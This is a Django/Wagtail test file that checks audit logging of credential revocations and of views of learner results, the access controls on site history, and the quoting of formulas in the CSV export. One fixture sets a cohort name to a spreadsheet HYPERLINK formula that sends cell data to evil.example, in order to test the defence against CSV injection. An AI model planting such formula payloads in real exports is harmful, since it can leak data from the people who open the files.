import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Permission
from django.urls import reverse
from wagtail.models import ModelLogEntry

from tests.academy.factories import CredentialFactory, SelfAssessmentFactory
from tests.curriculum.factories import CompetencyFactory

pytestmark = pytest.mark.django_db
REVOKE = "academy_credentials:revoke"
SITE_HISTORY = "wagtailadmin_reports:site_history"


@pytest.fixture
def superuser(db):
    return get_user_model().objects.create_superuser(
        username="root",
        email="root@example.org",
        password="x",  # noqa: S106
    )


@pytest.fixture
def results_reader(staff):
    """Program staff who were also granted one learner's individual results."""
    staff.user_permissions.add(
        Permission.objects.get(
            content_type__app_label="academy", codename="view_individual_results"
        )
    )
    return staff


def test_revoking_a_credential_is_in_the_audit_log_with_who_did_it(
    client, staff, learner, home_page, superuser, django_assert_max_num_queries
):
    credential = CredentialFactory(user=learner, module_title="Trust as infrastructure")
    client.force_login(staff)
    with django_assert_max_num_queries(20):
        client.post(
            reverse(REVOKE, args=[credential.pk]),
            {"reason": "Issued in error: the module was not completed."},
        )

    entry = ModelLogEntry.objects.get(action="academy.credential_revoke")
    assert entry.user_id == staff.pk
    assert entry.object_id == str(credential.pk)
    assert entry.label == f"Trust as infrastructure, credential #{credential.pk}"
    assert learner.email not in entry.label
    assert entry.data["reason"] == "Issued in error: the module was not completed."

    client.force_login(superuser)
    html = client.get(reverse(SITE_HISTORY)).content.decode()
    assert "Revoke credential" in html
    assert f"credential #{credential.pk}" in html
    inspect = reverse("academy_credentials:inspect", args=[credential.pk])
    assert inspect in html


def test_opening_a_learners_results_is_logged_by_learner_id_not_email(
    client, results_reader, learner, home_page, superuser, django_assert_max_num_queries
):
    SelfAssessmentFactory(user=learner, levels={CompetencyFactory(): 3}, submitted=True)
    client.force_login(results_reader)
    url = reverse("academy_learner_assessments", args=[learner.pk])
    with django_assert_max_num_queries(18):
        assert client.get(url).status_code == 200
    client.get(url)

    entries = ModelLogEntry.objects.filter(action="academy.assessment_results_view")
    assert entries.count() == 2
    entry = entries.first()
    assert entry.user_id == results_reader.pk
    assert entry.object_id == str(learner.pk)
    assert entry.data == {"learner_id": learner.pk}
    assert learner.email not in entry.label

    client.force_login(superuser)
    html = client.get(reverse(SITE_HISTORY)).content.decode()
    assert "View a learner&#x27;s self-assessment results" in html
    assert f"Learner #{learner.pk}" in html
    assert learner.email not in html


def test_staff_turned_away_from_results_leave_no_results_viewed_entry(
    client, staff, learner, home_page
):
    client.force_login(staff)
    client.get(reverse("academy_learner_assessments", args=[learner.pk]))
    assert not ModelLogEntry.objects.filter(
        action="academy.assessment_results_view"
    ).exists()


def test_the_site_history_download_quotes_names_that_read_as_formulas(
    client, superuser, home_page
):
    from wagtail.log_actions import log

    from tests.academy.factories import CohortFactory

    cohort = CohortFactory(name='=HYPERLINK("http://evil.example/?"&A1,"x")')
    log(instance=cohort, action="wagtail.edit", user=superuser)
    client.force_login(superuser)

    response = client.get(reverse(SITE_HISTORY), {"export": "csv"})

    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode()
    assert "'=HYPERLINK(" in body
    assert "\n=HYPERLINK(" not in body
    assert ",=HYPERLINK(" not in body


def test_the_site_history_stays_closed_to_learners_and_visitors(client, learner):
    url = reverse(SITE_HISTORY)
    assert client.get(url).status_code == 302
    client.force_login(learner)
    response = client.get(url)
    assert response.status_code == 403
    assert "no access to the admin" in response.content.decode()
